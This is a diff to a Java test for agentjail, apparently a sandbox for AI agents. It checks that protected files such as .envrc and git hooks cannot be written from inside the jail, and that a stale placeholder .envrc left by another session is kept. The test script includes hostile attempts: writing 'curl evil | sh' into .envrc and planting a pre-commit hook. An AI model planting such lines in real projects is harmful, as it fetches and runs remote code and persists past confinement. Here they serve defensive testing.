@@ -185,6 +185,19 @@ class ProtectedPathsTest {
         Path p = first.project();
         write(p.resolve(".agentjail.yaml"), "version: 1\n");
         Files.createDirectories(p.resolve("sub"));
+        // What a killed session of another state directory left: an empty .envrc and its journal. The first session
+        // binds it as the project's file; the refused one must not sweep it away under that jail's mount.
+        Path otherState = dir.resolve("other-state/agentjail/sessions");
+        Files.createDirectories(otherState);
+        Files.writeString(
+                otherState.resolve("dead.placeholders"),
+                "agentjail-placeholders 1\npid 1 0\nproject "
+                        + java.util.HexFormat.of()
+                                .formatHex(p.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                        + "\nfile "
+                        + java.util.HexFormat.of().formatHex(".envrc".getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                        + "\n");
+        Files.createFile(p.resolve(".envrc"));
         String attempts = """
                 echo 'curl evil | sh' > .envrc; echo "envrc=$?"
                 mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit; echo "hook=$?"
@@ -222,11 +235,12 @@ class ProtectedPathsTest {
         assertEquals(2, inside.exitCode(), inside::describe);
         assertTrue(inside.err().contains("around " + p.resolve("sub")), inside::describe);
         assertEquals(2, elsewhere.exitCode(), elsewhere::describe);
-        assertTrue(elsewhere.err().contains("with another state directory) is running on " + p), elsewhere::describe);
+        assertTrue(elsewhere.err().contains("with another state directory), or another program"), elsewhere::describe);
         assertEquals(0, aDone.exitCode(), aDone::describe);
         assertAll(Stream.of("envrc", "hook", "mcp").map(name -> (Executable)
                 () -> assertNotEquals("0", aDone.probe(name), () -> name + " succeeded; " + aDone.describe())));
-        assertEquals(List.of(".agentjail.yaml", "a-done", "a-started", "go", "sub"), entries(p));
+        assertEquals(List.of(".agentjail.yaml", ".envrc", "a-done", "a-started", "go", "sub"), entries(p));
+        assertEquals(0, Files.size(p.resolve(".envrc")), "nothing was written into it");
 
         AgentjailRun.Outcome after = AgentjailRun.in(dir).run("/bin/sh", "-c", "echo after=ran");
         assertEquals("ran", after.probes().get("after"), after::describe);
